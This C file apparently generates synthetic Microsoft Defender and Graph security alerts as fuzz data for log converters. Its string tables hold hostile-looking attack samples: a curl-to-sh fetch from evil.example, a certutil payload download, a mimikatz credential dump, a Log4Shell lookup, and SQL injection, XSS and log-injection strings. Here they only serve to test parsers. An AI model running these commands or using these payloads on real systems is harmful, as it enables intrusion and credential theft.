/* body.c - invents alerts: who did what on which machine, and the nasty texts in it. */
#include "config.h"

#include "body.h"
#include "generate.h"
#include "moment.h"
#include "schema.h"

#include <inttypes.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>

enum { MEMBERS_MAX = 64, DEPTH_MAX = 3, BODY_MIN = 3200, BODY_MAX = 13500 };

struct maker {
	struct text *t;
	uint64_t rng;
	bool ascii; /* write \uXXXX in this value */
};

struct object {
	size_t at[MEMBERS_MAX];
	unsigned n;
};

static uint64_t draw(struct maker *m)
{
	return m->rng = generate_mix(m->rng, 0x64726177u);
}

static unsigned below(struct maker *m, unsigned n)
{
	return (unsigned)((draw(m) >> 11) % n);
}

static bool chance(struct maker *m, unsigned percent)
{
	return below(m, 100) < percent;
}

#define PICK(m, list) ((list)[below((m), sizeof(list) / sizeof(*(list)))])

static void object_key(struct maker *m, struct object *o, const char *name)
{
	if (o->n == MEMBERS_MAX)
		abort();
	if (o->n)
		text_putc(m->t, ',');
	o->at[o->n++] = m->t->n;
	text_putc(m->t, '"');
	text_puts(m->t, name);
	text_puts(m->t, "\":");
}

static void object_end(struct maker *m, struct object *o, bool shuffle)
{
	if (shuffle && o->n > 1) {
		struct text copy = {0};
		size_t start = o->at[0], n = m->t->n - start;
		unsigned order[MEMBERS_MAX];
		text_add(&copy, m->t->p + start, n);
		for (unsigned i = 0; i < o->n; i++) {
			unsigned j = below(m, i + 1);
			order[i] = order[j];
			order[j] = i;
		}
		m->t->n = start;
		for (unsigned i = 0; i < o->n; i++) {
			unsigned k = order[i];
			size_t end = k + 1 < o->n ? o->at[k + 1] - 1 : start + n;
			if (i)
				text_putc(m->t, ',');
			text_add(m->t, copy.p + (o->at[k] - start), end - o->at[k]);
		}
		text_clear(&copy);
	}
	text_putc(m->t, '}');
}

static void place(struct maker *m, enum place which)
{
	text_putc(m->t, PLACE_MARK);
	text_putc(m->t, (char)which);
}

static void place_text(struct maker *m, enum place which)
{
	text_putc(m->t, '"');
	place(m, which);
	text_putc(m->t, '"');
}

static void place_time(struct maker *m, int after_s)
{
	static const int32_t units[] = {
		10000000, 1000000, 100000, 10000, 1000, 100, 10, 1};
	struct body_time where = {.after_s = after_s, .unit = PICK(m, units)};
	text_putc(m->t, '"');
	place(m, PLACE_TIME);
	text_add(m->t, &where, sizeof(where));
	text_putc(m->t, '"');
}

static void put(struct maker *m, const char *s)
{
	text_json_part(m->t, s, strlen(s), m->ascii);
}

static void put_hex(struct maker *m, unsigned n)
{
	while (n--)
		text_putc(m->t, "0123456789abcdef"[below(m, 16)]);
}

static void put_guid(struct maker *m)
{
	put_hex(m, 8);
	text_putc(m->t, '-');
	put_hex(m, 4);
	text_puts(m->t, "-4");
	put_hex(m, 3);
	text_puts(m->t, "-a");
	put_hex(m, 3);
	text_putc(m->t, '-');
	put_hex(m, 12);
}

/* Already JSON: texts that break careless writers of JSON, CEF, LEEF or syslog. */
static const char *const nasty[] = {"\\u0000", "\\u0001\\u001b[31mred\\u001b[0m",
	" a=b|c CEF:0|x|y|1|2|forged|10|src=1.2.3.4 msg=forged",
	"\\n<134>1 2026-01-01T00:00:00Z forged app - - - forged syslog line", "\\r\\n",
	"\\t", "\\\\", "\\\\|\\\\=", "\\\"quoted\\\"", "\\/", "|", "=", "\\\\n",
	"\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", "\xe4\xb8\xad\xe6\x96\x87\xe8\xad\xa6",
	"\xed\x95\x9c\xea\xb5\xad\xec\x96\xb4",
	"\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7",
	("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xe2\x80\xae"
	 "fdp.exe"),
	"\xf0\x9f\x98\x80\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb",
	"\\ud83d\\ude80", "e\xcc\x81o\xcc\x88", "zero\xe2\x80\x8bwidth",
	"\xe2\x80\xa8line\xe2\x80\xa9", "\xef\xbf\xbd\\t", "\\u007f\\u0085",
	"${jndi:ldap://evil.example/a}", "%s%n%x", "' OR 1=1 --",
	"<script>alert(1)</script>", "]]>", "\\b\\f", "LEEF:2.0|x|y|1|2|^|",
	"\xef\xbb\xbf", "\xf4\x8f\xbf\xbd"};

static void put_nasty(struct maker *m)
{
	text_puts(m->t, PICK(m, nasty));
}

static const char *const first_names[] = {"Adele", "Alex", "Diego", "Grady",
	"Henrietta", "Isaiah", "Johanna", "Lee", "Lynne", "Megan", "Miriam", "Nestor",
	"Patti", "Pradeep", "J\xc3\xb6rg", "Zo\xc3\xab", "Fran\xc3\xa7ois",
	"\xe5\xb1\xb1\xe7\x94\xb0"};
static const char *const last_names[] = {"Vance", "Wilber", "Siciliani", "Archie",
	"Mueller", "Langer", "Lorenz", "Gu", "Robbins", "Bowen", "Graham", "Wilke",
	"Fernandez", "Gupta", "O'Neil", "\xc5\x81ukasz", "\xe5\xa4\xaa\xe9\x83\x8e"};
static const char *const accounts[] = {"adelev", "alexw", "diegos", "gradya",
	"henriettam", "isaiahl", "johannal", "leeg", "svc-backup", "svc-sql$",
	"administrator", "SYSTEM", "nt authority\\system", "WORKSTATION-7$",
	"j\xc3\xb6rg"};
static const char *const domains[] = {"contoso.com", "fabrikam.com",
	"woodgrove.example", "northwind.example", "tailspin.example",
	"contoso.onmicrosoft.com", "xn--mnchen-3ya.example", "m\xc3\xbcnchen.example",
	"evil-cdn.example"};
static const char *const words[] = {"unknown", "standard", "primary", "Default",
	"internal", "External", "inbound", "outbound", "finance", "prod-eu-1",
	"payments", "nginx", "kube-system", "Delivered", "Quarantine", "SupportTicket",
	"NRT", "ClusterIP"};
static const char *const files[] = {"powershell.exe", "cmd.exe", "rundll32.exe",
	"mimikatz.exe", "invoice.pdf.exe", "winword.exe", "MsSense.exe", "update.ps1",
	"payload.dll", "a b=c|d.exe", "r\xc3\xa9sum\xc3\xa9.docm",
	"\xe8\xab\x8b\xe6\xb1\x82.js", "gpj\xe2\x80\xae.exe", "eicar.com", "bash",
	"nc"};
static const char *const directories[] = {"C:\\Windows\\System32",
	"C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0",
	"C:\\Users\\adelev\\Downloads", "C:\\Users\\j\xc3\xb6rg\\AppData\\Local\\Temp",
	"\\\\fileserver\\share$\\Tools", "C:\\Program Files (x86)\\Contoso\\App",
	"/usr/bin", "/tmp/.x", "/home/user/dir=1|2",
	"\\Device\\HarddiskVolume3\\Windows"};
static const char *const commands[] = {
	"\"powershell.exe\" -NoP -W Hidden -EncodedCommand "
	"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0AC"
	"kA",
	"cmd /c echo a=b|c CEF:0|x|y src=1.2.3.4 msg=forged",
	"cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain\"",
	"rundll32.exe C:\\Windows\\Temp\\payload.dll,DllMain",
	("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "
	 "\"a=b\""),
	"schtasks /create /tn \"\\Update|Check\" /tr calc.exe /sc minute",
	"echo first\r\nsecond\n<134>1 forged syslog line",
	"bash -c 'curl -s http://evil.example/x?a=b\\&c=d | sh'",
	"svchost.exe -k netsvcs -p",
	"certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe",
	"wmic process call create \"notepad.exe\"", "", "tab\there \xf0\x9f\x98\x88",
	"\\\\?\\C:\\x\\\\",
	"mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"};
static const char *const companies[] = {"Microsoft Windows", "Microsoft Corporation",
	"Contoso Ltd.", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1",
	"Fabrikam, Inc. \"Tools\"",
	("Schr\xc3\xb6"
	 "der & S\xc3\xb6hne GmbH")};
static const char *const platforms[] = {"Windows10", "Windows11", "WindowsServer2022",
	"macOS", "Linux", "Android", "iOS", "Ubuntu 22.04"};
static const char *const subjects[] = {"Invoice overdue",
	"RE: your account will be suspended", "[EXTERNAL] Payment=now | urgent",
	"\xf0\x9f\x94\x92 Verify \xe2\x80\x8b password",
	"\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8", "Fwd: =?utf-8?B?4oCc?=", ""};
static const char *const sentences[] = {
	"A process accessed the memory of lsass.exe in an unusual way.",
	"Several sign-ins from an anonymous IP address were followed by a mailbox "
	"rule.",
	"The file was seen on 3 devices; first seen 2 days ago.",
	"An attacker may be attempting to move laterally (T1021.002) with stolen "
	"credentials.",
	"Query: DeviceProcessEvents | where FileName == \"cmd.exe\" and x=1",
	"Command line contains '|' and '=' and \\ characters.",
	"Microsoft Defender has detected a suspicious inbox manipulation rule.",
	"\xd8\xaa\xd9\x85 \xd8\xa7\xd9\x84\xd9\x83\xd8\xb4\xd9\x81 \xd8\xb9\xd9\x86 "
	"\xd9\x86"
	"\xd8\xb4\xd8\xa7\xd8\xb7",
	"Privilege escalation with a vulnerable driver was blocked."};
static const char *const advice[] = {
	"Collect artifacts and determine scope\n\xef\xbf\xbd\tReview the machine "
	"timeline for "
	"suspicious activities that may have occurred before and after the time of the "
	"alert.",
	"1. Validate the alert.\r\n2. Check the sign-in log of the user.\r\n3. Reset "
	"the "
	"password and revoke sessions.",
	"\xe2\x80\xa2 Contact the user\n\xe2\x80\xa2 Isolate the device\n\xe2\x80\xa2 "
	"Run a "
	"full antivirus scan",
	"Initiate containment & mitigation \n\tBlock communication with relevant URLs "
	"or IPs "
	"at the organization\xef\xbf\xbds perimeter."};
static const char *const titles[] = {"Suspicious execution of hidden file",
	"Mimikatz credential theft tool", "Unusual sign-in | impossible travel",
	"Email messages containing malicious URL removed after delivery\xe2\x80\x8b",
	"Suspicious PowerShell command line", "Possible lateral movement: a=b",
	"Anonymous IP address", "Mass download by a single user",
	"Kubernetes: privileged container detected",
	"Ransomware-linked activity \"LockBit\"",
	"\xe7\x96\x91\xe3\x82\x8f\xe3\x81\x97\xe3\x81\x84\xe6\xb4\xbb\xe5\x8b\x95",
	"Suspected brute-force attack (Kerberos, NTLM)",
	"DLP policy (Card numbers) matched",
	"Multi-stage incident on one endpoint\\device", "Malware was prevented"};
static const char *const categories[] = {"DefenseEvasion", "CredentialAccess",
	"InitialAccess", "Execution", "Persistence", "LateralMovement", "Exfiltration",
	"Malware", "Ransomware", "SuspiciousActivity", "CommandAndControl", "Impact"};
static const char *const techniques[] = {"T1564.001", "T1003.001", "T1566.002",
	"T1059.001", "T1547.001", "T1021.002", "T1048", "T1486", "T1078.004",
	"T1110.003", "T1071"};
static const char *const agents[] = {("Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
				      "AppleWebKit/537.36 Chrome/126.0 Safari/537.36"),
	"curl/7.88.1", "Outlook-iOS/2.0", "python-requests/2.31|x=y"};
static const char *const cities[] = {"Z\xc3\xbcrich", "Redmond", "S\xc3\xa3o Paulo",
	"\xe6\x9d\xb1\xe4\xba\xac", "Amsterdam", "Lagos"};
static const char *const countries[] = {"CH", "US", "BR", "JP", "NL", "NG", "RU"};

static void put_ip(struct maker *m)
{
	static const char *const v6[] = {"2001:db8::", "fe80::1ff:fe23:4567:",
		"fd00:a:b:c::", "2603:10a6:20b:12::"};
	if (chance(m, 25)) {
		text_puts(m->t, PICK(m, v6));
		put_hex(m, 1 + below(m, 4));
	} else {
		static const char *const v4[] = {
			"10.0", "192.168", "203.0", "198.51", "172.16"};
		text_printf(m->t, "%s.%u.%u", PICK(m, v4), below(m, 256),
			1 + below(m, 254));
	}
}

static void put_long_command(struct maker *m)
{
	unsigned n = 2000 + below(m, 5800);
	put(m, "powershell.exe -EncodedCommand ");
	text_reserve(m->t, n);
	for (unsigned i = 0; i < n; i++)
		text_putc(m->t, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz01"
				"23456789+/"[below(m, 64)]);
	put(m, "==");
}

static void put_string(struct maker *m, enum kind kind)
{
	switch (kind) {
	case KIND_ACCOUNT:
		put(m, PICK(m, accounts));
		break;
	case KIND_AGENT:
		put(m, PICK(m, agents));
		break;
	case KIND_CITY:
		put(m, PICK(m, cities));
		break;
	case KIND_COMMAND:
		put(m, PICK(m, commands));
		if (chance(m, 10))
			put_nasty(m);
		break;
	case KIND_COMPANY:
		put(m, PICK(m, companies));
		break;
	case KIND_COUNTRY:
	case KIND_COUNTRYNAME:
		put(m, PICK(m, countries));
		break;
	case KIND_DIRECTORY:
		put(m, PICK(m, directories));
		break;
	case KIND_DN:
		put(m, "CN=Domain Admins,OU=\"Tier 0\\, A=B\",DC=contoso,DC=com");
		break;
	case KIND_DNS:
		put(m, "desktop-");
		put_hex(m, 6);
		text_putc(m->t, '.');
		put(m, PICK(m, domains));
		break;
	case KIND_DOMAIN:
		put(m, PICK(m, domains));
		break;
	case KIND_FILE:
		put(m, PICK(m, files));
		break;
	case KIND_GUID:
		put_guid(m);
		break;
	case KIND_HIVE:
		put(m, chance(m, 50) ? "HKEY_LOCAL_MACHINE" : "HKEY_CURRENT_USER");
		break;
	case KIND_HOST:
		put(m, "desktop-");
		put_hex(m, 6);
		break;
	case KIND_IMAGE:
		put(m, "contoso.azurecr.example/web@sha256:");
		put_hex(m, 64);
		break;
	case KIND_IP:
		put_ip(m);
		break;
	case KIND_MAC:
		text_printf(m->t, "00-15-5D-%02X-%02X-%02X", below(m, 256),
			below(m, 256), below(m, 256));
		break;
	case KIND_MD5:
		put_hex(m, 32);
		break;
	case KIND_MESSAGE_ID:
		text_putc(m->t, '<');
		put_hex(m, 24);
		put(m, "@mail.example>");
		break;
	case KIND_NTDOMAIN:
		put(m, chance(m, 80) ? "CONTOSO" : "NT AUTHORITY");
		break;
	case KIND_PERSON:
		put(m, PICK(m, first_names));
		text_putc(m->t, ' ');
		put(m, PICK(m, last_names));
		break;
	case KIND_PLATFORM:
		put(m, PICK(m, platforms));
		break;
	case KIND_REGISTRY:
		put(m, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run=x|y");
		break;
	case KIND_RELEASE:
		text_printf(
			m->t, "%u.%u.%u", 1 + below(m, 23), below(m, 30), below(m, 9));
		break;
	case KIND_RESOURCE:
		put(m, "/subscriptions/");
		put_guid(m);
		put(m, "/resourceGroups/rg-");
		put(m, PICK(m, words));
		put(m, "/providers/Microsoft.Compute/virtualMachines/vm-");
		put_hex(m, 4);
		break;
	case KIND_SENTENCE:
		put(m, PICK(m, sentences));
		break;
	case KIND_SHA1:
		put_hex(m, 40);
		break;
	case KIND_SHA256:
		put_hex(m, 64);
		break;
	case KIND_SID:
		text_printf(m->t, "S-1-5-21-%u-%u-%u-%u", below(m, 4000000000u),
			below(m, 4000000000u), below(m, 4000000000u),
			500 + below(m, 9000));
		break;
	case KIND_SUBJECT:
		put(m, PICK(m, subjects));
		break;
	case KIND_TENANT:
		place(m, PLACE_TENANT);
		break;
	case KIND_UPN:
		put(m, PICK(m, accounts));
		text_putc(m->t, '@');
		put(m, PICK(m, domains));
		break;
	case KIND_URL:
		if (chance(m, 70))
			put(m, chance(m, 50) ? "https://" : "http://");
		put(m, PICK(m, domains));
		if (chance(m, 70)) {
			put(m, "/p/");
			put_hex(m, 8);
			put(m, "?a=b&c=%7C|d\\e#f");
		}
		break;
	default:
		put(m, PICK(m, words));
	}
	if (chance(m, 3) && kind != KIND_IP && kind != KIND_GUID &&
		kind != KIND_TENANT && kind != KIND_SHA1 && kind != KIND_SHA256 &&
		kind != KIND_MD5)
		put_nasty(m);
}

static void put_string_value(struct maker *m, enum kind kind)
{
	m->ascii = chance(m, 15);
	text_putc(m->t, '"');
	put_string(m, kind);
	text_putc(m->t, '"');
	m->ascii = false;
}

static void put_member(struct maker *m, enum schema_enum which)
{
	const char *const *members = schema_members(which);
	unsigned n = 0;
	while (members[n])
		n++;
	const char *member;
	do {
		member = members[below(m, n)];
	} while (!strcmp(member, "unknownFutureValue"));
	text_putc(m->t, '"');
	if (schema_is_late(which, member)) {
		place(m, PLACE_LATE_MEMBER);
		text_putc(m->t, (char)strlen(member));
	}
	text_puts(m->t, member);
	text_putc(m->t, '"');
}

/* Objects with keys Microsoft does not fix: custom details, labels. */
static void put_map(struct maker *m, unsigned depth)
{
	static const char *const keys[] = {"app", "kubernetes.io/name", "Rule|Name",
		"a=b", "Account \xf0\x9f\x91\xa4", "Score", "nested", "", "\"q\"",
		"list", "cs1Label"};
	static const char *const numbers[] = {"9007199254740993",
		"-9223372036854775808", "18446744073709551615", "1e400", "-0.0", "0.1",
		"3.0E-5", "42"};
	unsigned n = below(m, 6), start = below(m, 11);
	text_putc(m->t, '{');
	for (unsigned i = 0; i < n; i++) {
		if (i)
			text_putc(m->t, ',');
		text_json(m->t, keys[(start + i) % 11], false);
		text_putc(m->t, ':');
		switch (below(m, 6)) {
		case 0:
			text_puts(m->t, PICK(m, numbers));
			break;
		case 1:
			text_puts(m->t, chance(m, 50) ? "true" : "null");
			break;
		case 2:
			if (depth < DEPTH_MAX) {
				put_map(m, depth + 1);
				break;
			}
			__attribute__((fallthrough));
		case 3:
			text_puts(m->t, "[1,[],{},\"x\"]");
			break;
		default:
			put_string_value(m, KIND_SENTENCE);
		}
	}
	text_putc(m->t, '}');
}

static void put_object(struct maker *m, const struct type *, unsigned depth);

static void put_value(struct maker *m, const struct field *f, unsigned depth)
{
	static const enum schema_type clouds[] = {TYPE_AZURE_RESOURCE_EVIDENCE,
		TYPE_AMAZON_RESOURCE_EVIDENCE, TYPE_GOOGLE_CLOUD_RESOURCE_EVIDENCE};
	switch (f->kind) {
	case KIND_BIG:
		text_printf(
			m->t, "%" PRIu64, UINT64_C(9007199254740993) + (draw(m) >> 3));
		break;
	case KIND_BOOL:
		text_puts(m->t, chance(m, 50) ? "true" : "false");
		break;
	case KIND_DOUBLE:
		text_printf(m->t, "%d.%05u", (int)below(m, 180) - 90, below(m, 100000));
		break;
	case KIND_ENUM:
		put_member(m, (enum schema_enum)f->what);
		break;
	case KIND_MAP:
		put_map(m, 2);
		break;
	case KIND_NUMBER:
		text_printf(m->t, "%u", below(m, 4000000));
		break;
	case KIND_PORT:
		text_printf(m->t, "%u", 1 + below(m, 65535));
		break;
	case KIND_SMALL:
		text_printf(m->t, "%u", below(m, 9));
		break;
	case KIND_TIME:
		place_time(m, -(int)below(m, 86400));
		break;
	case KIND_CLOUD:
		put_object(m, &schema_types[PICK(m, clouds)], depth + 1);
		break;
	case KIND_OBJECT:
		put_object(m, &schema_types[f->what], depth + 1);
		break;
	case KIND_COMMAND:
		if (!f->array && depth < 2 && chance(m, 2)) {
			text_putc(m->t, '"');
			put_long_command(m);
			text_putc(m->t, '"');
			break;
		}
		__attribute__((fallthrough));
	default:
		put_string_value(m, f->kind);
	}
}

static void put_field(
	struct maker *m, struct object *o, const struct field *f, unsigned depth)
{
	unsigned fate = below(m, 100);
	bool always = f->kind == KIND_ENUM || f->kind == KIND_BOOL;
	bool deep =
		depth >= DEPTH_MAX && (f->kind == KIND_OBJECT || f->kind == KIND_CLOUD);
	if (fate < 4 && !always)
		return;
	object_key(m, o, f->name);
	if ((fate < 12 && !always) || (deep && !f->array)) {
		text_puts(m->t, "null");
	} else if (fate < 14 && !f->array && f->kind != KIND_OBJECT &&
		   f->kind != KIND_TIME && f->kind != KIND_CLOUD && !always &&
		   f->kind != KIND_NUMBER && f->kind != KIND_DOUBLE &&
		   f->kind != KIND_MAP && f->kind != KIND_PORT && f->kind != KIND_BIG &&
		   f->kind != KIND_SMALL) {
		text_puts(m->t, "\"\"");
	} else if (f->array) {
		unsigned max = f->kind != KIND_OBJECT ? 4 : depth > 1 ? 1 : 3 - depth;
		unsigned n = deep ? 0 : below(m, max);
		text_putc(m->t, '[');
		for (unsigned i = 0; i < n; i++) {
			if (i)
				text_putc(m->t, ',');
			put_value(m, f, depth);
		}
		text_putc(m->t, ']');
	} else {
		put_value(m, f, depth);
	}
}

static void put_object(struct maker *m, const struct type *type, unsigned depth)
{
	struct object o = {.n = 0};
	text_putc(m->t, '{');
	if (type->evidence) {
		object_key(m, &o, "@odata.type");
		text_printf(m->t, "\"#microsoft.graph.security.%s\"", type->name);
		object_key(m, &o, "createdDateTime");
		place_time(m, (int)below(m, 600));
		for (size_t i = 0; i < schema_common.count; i++)
			put_field(m, &o, &schema_common.fields[i], depth);
	}
	for (size_t i = 0; i < type->count; i++)
		put_field(m, &o, &type->fields[i], depth);
	object_end(m, &o, chance(m, 20));
}

static unsigned common_type(struct maker *m)
{
	static const unsigned char common[] = {TYPE_DEVICE_EVIDENCE,
		TYPE_DEVICE_EVIDENCE, TYPE_USER_EVIDENCE, TYPE_USER_EVIDENCE,
		TYPE_PROCESS_EVIDENCE, TYPE_PROCESS_EVIDENCE, TYPE_PROCESS_EVIDENCE,
		TYPE_FILE_EVIDENCE, TYPE_FILE_EVIDENCE, TYPE_IP_EVIDENCE,
		TYPE_IP_EVIDENCE, TYPE_URL_EVIDENCE};
	return PICK(m, common);
}

static void put_evidence(struct maker *m, unsigned certain)
{
	unsigned n = 1 + below(m, 6), i = 0, at = below(m, n);
	size_t start = m->t->n;
	text_putc(m->t, '[');
	for (; i < n || m->t->n - start < BODY_MIN / 2; i++) {
		if (i > at && m->t->n > BODY_MAX)
			break;
		if (i)
			text_putc(m->t, ',');
		put_object(m, &schema_types[i == at ? certain : common_type(m)], 0);
	}
	if (chance(m, 2))
		text_puts(m->t, ",{\"@odata.type\":\"#microsoft.graph.security."
				"quantumEvidence\",\"qubit\":{\"a|b\":[1,2.50,null]}}");
	text_putc(m->t, ']');
}

static const struct service {
	const char *source, *prefix, *product, *detection;
	unsigned weight;
} services[] = {
	{"microsoftDefenderForEndpoint", "da", "Microsoft Defender for Endpoint",
		"microsoftDefenderForEndpoint", 38},
	{"microsoftDefenderForIdentity", "aa", "Microsoft Defender for Identity",
		"microsoftDefenderForIdentity", 8},
	{"microsoftDefenderForCloudApps", "ca", "Microsoft Defender for Cloud Apps",
		"cloudAppSecurity", 8},
	{"microsoftDefenderForOffice365", "fa", "Microsoft Defender for Office 365",
		"microsoftDefenderForOffice365", 16},
	{"microsoft365Defender", "ra", "Microsoft Defender XDR", "microsoft365Defender",
		6},
	{"azureAdIdentityProtection", "ad", "Microsoft Entra ID Protection",
		"azureAdIdentityProtection", 8},
	{"microsoftAppGovernance", "ma", "App governance", "appGovernancePolicy", 2},
	{"dataLossPrevention", "dl", "Microsoft Data Loss Prevention",
		"microsoftDataLossPrevention", 3},
	{"microsoftDefenderForCloud", "dc", "Microsoft Defender for Cloud",
		"microsoftDefenderForCloud", 4},
	{"microsoftSentinel", "sn", "Microsoft Sentinel", "scheduledAlerts", 5},
	{"microsoftInsiderRiskManagement", "ir",
		"Microsoft Purview Insider Risk Management",
		"microsoftInsiderRiskManagement", 1},
	{"microsoftThreatIntelligence", "ta", "Microsoft Threat Intelligence",
		"microsoftThreatIntelligence", 1},
};

static const struct service *pick_service(struct maker *m)
{
	unsigned at = below(m, 100);
	for (size_t i = 0; i < sizeof(services) / sizeof(*services); i++) {
		if (at < services[i].weight)
			return &services[i];
		at -= services[i].weight;
	}
	return &services[0];
}

static void put_enum_text(struct maker *m, enum schema_enum which, const char *member)
{
	text_putc(m->t, '"');
	if (schema_is_late(which, member)) {
		place(m, PLACE_LATE_MEMBER);
		text_putc(m->t, (char)strlen(member));
	}
	text_puts(m->t, member);
	text_putc(m->t, '"');
}

static void put_list(
	struct maker *m, const char *const *list, unsigned size, unsigned max)
{
	unsigned n = below(m, max + 1), start = below(m, size);
	if (chance(m, 5)) {
		text_puts(m->t, "null");
		return;
	}
	text_putc(m->t, '[');
	for (unsigned i = 0; i < n; i++) {
		if (i)
			text_putc(m->t, ',');
		text_json(m->t, list[(start + i) % size], false);
	}
	text_putc(m->t, ']');
}

static void put_comments(struct maker *m)
{
	unsigned n = chance(m, 20) ? 1 + below(m, 3) : 0;
	text_putc(m->t, '[');
	for (unsigned i = 0; i < n; i++) {
		bool old = chance(m, 30);
		text_puts(m->t, i ? ",{\"comment\":" : "{\"comment\":");
		put_string_value(m, KIND_SENTENCE);
		text_puts(m->t, old ? ",\"createdBy\":" : ",\"createdByDisplayName\":");
		put_string_value(m, KIND_UPN);
		text_puts(m->t, old ? ",\"createdTime\":" : ",\"createdDateTime\":");
		place_time(m, (int)below(m, 3000));
		text_putc(m->t, '}');
	}
	text_putc(m->t, ']');
}

/* Often null, sometimes absent, sometimes empty: as the vendor does. */
static void put_optional(struct maker *m, struct object *o, const char *name,
	enum kind kind, unsigned percent)
{
	if (chance(m, 3))
		return;
	object_key(m, o, name);
	if (chance(m, percent))
		put_string_value(m, kind);
	else
		text_puts(m->t, chance(m, 10) ? "\"\"" : "null");
}

static void put_prose(
	struct maker *m, const char *const *list, unsigned size, unsigned max)
{
	unsigned n = 1 + below(m, max);
	m->ascii = chance(m, 10);
	text_putc(m->t, '"');
	for (unsigned i = 0; i < n; i++) {
		if (i)
			put(m, chance(m, 30) ? "\n\n" : " ");
		put(m, list[below(m, size)]);
	}
	if (chance(m, 8))
		put_nasty(m);
	text_putc(m->t, '"');
	m->ascii = false;
}

#define COUNT(list) (sizeof(list) / sizeof(*(list)))

static void put_link(struct maker *m, const char *what, enum place which)
{
	text_puts(m->t, "\"https://security.microsoft.com/");
	text_puts(m->t, what);
	place(m, which);
	text_puts(m->t, "?tid=");
	place(m, PLACE_TENANT);
	text_putc(m->t, '"');
}

static void put_identity(struct maker *m, struct object *o, const struct service *s)
{
	if (chance(m, 50)) {
		object_key(m, o, "@odata.type");
		text_puts(m->t, "\"#microsoft.graph.security.alert\"");
	}
	object_key(m, o, "id");
	place_text(m, PLACE_ID);
	object_key(m, o, "providerAlertId");
	place_text(m, PLACE_PROVIDER_ID);
	object_key(m, o, "incidentId");
	place_text(m, PLACE_INCIDENT);
	object_key(m, o, "status");
	place(m, PLACE_STATUS);
	object_key(m, o, "severity");
	place(m, PLACE_SEVERITY);
	object_key(m, o, "classification");
	place(m, PLACE_CLASSIFICATION);
	object_key(m, o, "determination");
	place(m, PLACE_DETERMINATION);
	object_key(m, o, "serviceSource");
	put_enum_text(m, ENUM_SERVICE_SOURCE, s->source);
	object_key(m, o, "detectionSource");
	put_enum_text(m, ENUM_DETECTION_SOURCE, s->detection);
	object_key(m, o, "productName");
	text_json(m->t, s->product, false);
	put_optional(m, o, "detectorId", KIND_GUID, 90);
	object_key(m, o, "tenantId");
	place_text(m, PLACE_TENANT);
}

static void put_times(struct maker *m, struct object *o)
{
	object_key(m, o, "createdDateTime");
	place_text(m, PLACE_CREATED);
	object_key(m, o, "lastUpdateDateTime");
	place_text(m, PLACE_UPDATED);
	object_key(m, o, "resolvedDateTime");
	place(m, PLACE_RESOLVED);
	object_key(m, o, "firstActivityDateTime");
	place_time(m, -(int)below(m, 40000));
	object_key(m, o, "lastActivityDateTime");
	place_time(m, -(int)below(m, 600));
}

void body_make(struct body *b, uint64_t seed, unsigned number)
{
	struct maker maker = {.t = &b->json, .rng = seed}, *m = &maker;
	struct object o = {.n = 0};
	const struct service *s = pick_service(m);
	b->source = s->source;
	b->prefix = s->prefix;
	text_putc(m->t, '{');
	put_identity(m, &o, s);
	object_key(m, &o, "title");
	put_prose(m, titles, COUNT(titles), 1);
	object_key(m, &o, "description");
	if (chance(m, 4))
		text_puts(m->t, "null");
	else
		put_prose(m, sentences, COUNT(sentences), 8);
	object_key(m, &o, "recommendedActions");
	put_prose(m, advice, COUNT(advice), 5);
	object_key(m, &o, "category");
	text_json(m->t, PICK(m, categories), false);
	object_key(m, &o, "categories");
	put_list(m, categories, COUNT(categories), 3);
	object_key(m, &o, "assignedTo");
	place(m, PLACE_ASSIGNED);
	object_key(m, &o, "alertWebUrl");
	put_link(m, "alerts/", PLACE_ID);
	object_key(m, &o, "incidentWebUrl");
	put_link(m, "incidents/", PLACE_INCIDENT);
	put_optional(m, &o, "actorDisplayName", KIND_COMPANY, 10);
	put_optional(m, &o, "threatDisplayName", KIND_FILE, 30);
	put_optional(m, &o, "threatFamilyName", KIND_WORD, 30);
	put_optional(m, &o, "alertPolicyId", KIND_GUID, 20);
	object_key(m, &o, "mitreTechniques");
	put_list(m, techniques, COUNT(techniques), 4);
	put_times(m, &o);
	object_key(m, &o, "investigationState");
	put_member(m, ENUM_INVESTIGATION_STATE);
	object_key(m, &o, "comments");
	put_comments(m);
	object_key(m, &o, "systemTags");
	text_puts(m->t, chance(m, 90) ? "[]" : "[\"Defender Experts\",\"a|b=c\"]");
	object_key(m, &o, "customDetails");
	if (chance(m, 50))
		text_puts(m->t, chance(m, 50) ? "{}" : "null");
	else
		put_map(m, 0);
	object_key(m, &o, "additionalData");
	if (chance(m, 50))
		text_puts(m->t, chance(m, 50) ? "{}" : "null");
	else
		put_map(m, 0);
	object_key(m, &o, "evidence");
	put_evidence(m, number % TYPE_EVIDENCE_COUNT);
	object_end(m, &o, chance(m, 15));
}
